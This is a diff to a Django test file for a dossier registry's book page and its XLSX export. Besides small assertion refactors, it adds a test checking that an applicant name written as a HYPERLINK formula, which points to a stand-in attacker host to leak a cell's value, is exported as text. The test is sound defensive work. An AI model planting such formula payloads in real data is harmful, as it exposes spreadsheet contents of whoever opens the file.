@@ -13,6 +13,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from cchc.dossiers.models import Status, Timeliness
+from cchc.testing import html
 
 from .test_documents_forms import VN, dossier, history
 
@@ -161,9 +162,7 @@ def test_book_bad_period(province, client_as):
     soup = BeautifulSoup(
         client.get(BOOK, {"from": "2026-02-01", "to": "2026-01-01"}).content, "html.parser"
     )
-    assert (
-        "Ngày kết thúc không được trước ngày bắt đầu." in soup.select_one(".msg-error").get_text()
-    )
+    assert "Ngày kết thúc không được trước ngày bắt đầu." in html.text(soup, ".msg-error")
     soup = BeautifulSoup(client.get(BOOK, {"from": "31/02/2026"}).content, "html.parser")
     assert soup.select_one(".msg-error") is not None
 
@@ -215,9 +214,41 @@ def test_book_page_stops_at_its_limit(province, client_as, monkeypatch):
     response = client_as(province.noivu).get(BOOK, {"from": "2026-01-01", "to": "2026-01-31"})
     assert len(rows_of(response)) == 2
     soup = BeautifulSoup(response.content, "html.parser")
-    assert "XLSX" in soup.select_one(".msg-warning").get_text()
+    assert "XLSX" in html.text(soup, ".msg-warning")
     xlsx = client_as(province.noivu).get(
         BOOK, {"from": "2026-01-01", "to": "2026-01-31", "format": "xlsx"}
     )
     ws = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
     assert ws.max_row == 3 + 3  # the export has every row
+
+
+def test_book_xlsx_keeps_a_formula_typed_as_a_name_as_text(province, client_as):
+    """Issue 14, finding 2: an applicant named ``=HYPERLINK(…)`` stays text in the export."""
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
+    d = dossier(
+        province,
+        code="000.00.20.H10-260105-0009",
+        received=dt.datetime(2026, 1, 5, 9, 0, tzinfo=VN),
+        applicant_name=hostile,
+    )
+    history(d, province)
+    client = client_as(province.noivu)
+    response = client.get(BOOK, {"from": "2026-01-01", "to": "2026-01-31", "format": "xlsx"})
+    data = b"".join(response.streaming_content)
+    cell = next(
+        c
+        for row in load_workbook(io.BytesIO(data)).active.iter_rows()
+        for c in row
+        if c.value == hostile
+    )
+    assert cell.data_type == "s"
+    assert b"<f>" not in data and b"HYPERLINK" not in _sheet_xml_formulas(data)
+
+
+def _sheet_xml_formulas(data: bytes) -> bytes:
+    import re
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
+    return b"".join(re.findall(rb"<f>(.*?)</f>", xml))
